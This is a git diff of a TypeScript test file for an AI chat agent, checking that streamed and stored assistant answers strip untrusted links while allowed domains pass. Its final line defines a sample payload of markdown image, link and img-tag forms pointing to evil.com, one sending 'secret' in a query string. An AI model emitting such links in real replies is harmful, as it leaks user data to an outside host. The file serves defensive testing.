@@ -3,7 +3,8 @@ import { z } from "zod"
 import { deliverTurn } from "../../../src/apps/bots/deliver-turn.ts"
 import { agUiEvents } from "../../../src/apps/server/ag-ui.ts"
 import { createHandler } from "../../../src/apps/server/handler.ts"
-import { keptMessageChunks, uiMessageChunks } from "../../../src/apps/server/ui-message-stream.ts"
+import { keptAnswer } from "../../../src/apps/server/kept-answer.ts"
+import { uiMessageChunks } from "../../../src/apps/server/ui-message-stream.ts"
 import { createInMemoryStore } from "../../../src/memory/services/store/in-memory/in-memory-store.ts"
 import { defineTool } from "../../../src/prompt/tools/define-tool.ts"
 import { manualClock, scriptedModel } from "../../../src/testing/index.ts"
@@ -21,9 +22,9 @@ function answering(output: object, { thought = "", times = 1 } = {}) {
   const thinking = thought ? [{ type: "thinking-delta" as const, delta: thought }] : []
   const model = scriptedModel(Array.from({ length: times }, () => [...thinking, ...pieces]))
   const settings = { loop: { mode: "chat" as const }, output: { bubbles: true, ...output }, memory: { enabled: false } }
-  const { session } = testAgent(model, settings, { store })
+  const { agent, session } = testAgent(model, settings, { store })
   const kept = async () => (await store.load(session.key))?.history.findLast(({ role }) => role === "assistant")?.text
-  return { session, kept }
+  return { agent, session, kept }
 }
 
 async function all(chunks: AsyncIterable<unknown>): Promise<unknown[]> {
@@ -110,11 +111,15 @@ describe("T48 chats and pages", () => {
     const chunks = JSON.stringify(await all(uiMessageChunks(session.send("hi"))))
     expect(chunks).not.toMatch(/https|evil/)
     expect(chunks).toMatch(/"delta":"x ".*"delta":"hm"/)
-    const from = { locale: "en", bytesOf: async () => undefined }
-    const told = async (links: readonly string[] | undefined) =>
-      JSON.stringify(await all(keptMessageChunks("1", [{ text: answer }], { ...from, links })))
-    expect(await told(undefined)).not.toMatch(/https/)
-    expect(await told(["ok.com"])).toContain("https://ok.com/")
+    const told = async (output: object) => {
+      const { agent, session } = answering(output)
+      const turn = session.send("hi")
+      await turn.result
+      const kept = await keptAnswer(agent, session.key.conversation, turn.id)
+      return JSON.stringify(kept && (await all(uiMessageChunks(kept))))
+    }
+    expect(await told({})).not.toMatch(/https/)
+    expect(await told({ links: ["ok.com"] })).toContain("https://ok.com/")
   })
 
   const evil = "![a](https://evil.com/?d=secret) [b]: //evil.com/x <img src=//evil.com/y> sub.evil.com"
